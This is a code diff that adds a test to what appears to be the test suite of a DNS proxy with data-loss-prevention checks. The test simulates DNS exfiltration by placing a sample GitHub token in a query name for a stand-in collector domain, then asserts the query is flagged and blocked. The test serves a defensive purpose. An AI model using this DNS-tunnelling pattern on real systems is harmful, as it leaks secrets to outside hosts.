@@ -230,6 +230,18 @@ describe("DNS server", () => {
     expect(JSON.stringify(sl.lines)).not.toContain(token);
   }, T);
 
+  test("with dns.exfil off, DLP still reads query names", async () => {
+    const noExfil = await startSluice(config(fake.address, "  exfil: { enabled: false }"));
+    extra.push(noExfil);
+    const token = sampleSecret("dlp.github-token");
+    const r = await dig(dnsPort(noExfil), `${token}.leak2-collector.com`, "A");
+    expect(r.ede ?? r.raw).toContain("dlp.github-token");
+    expect(fake.queries().some((q) => q.name.includes("leak2-collector.com"))).toBe(false);
+    // The exfiltration heuristics are off: an encoded-looking label that holds no secret passes.
+    const hexLabel = Buffer.from("not a secret, just data").toString("hex");
+    expect((await dig(dnsPort(noExfil), `${hexLabel}.example.test`, "A")).ede ?? "").not.toContain("dns.exfil");
+  }, T);
+
   test("queries sluice will not serve get FORMERR, NOTIMP or REFUSED and never go upstream", async () => {
     const port = dnsPort(sl);
     const before = fake.count();
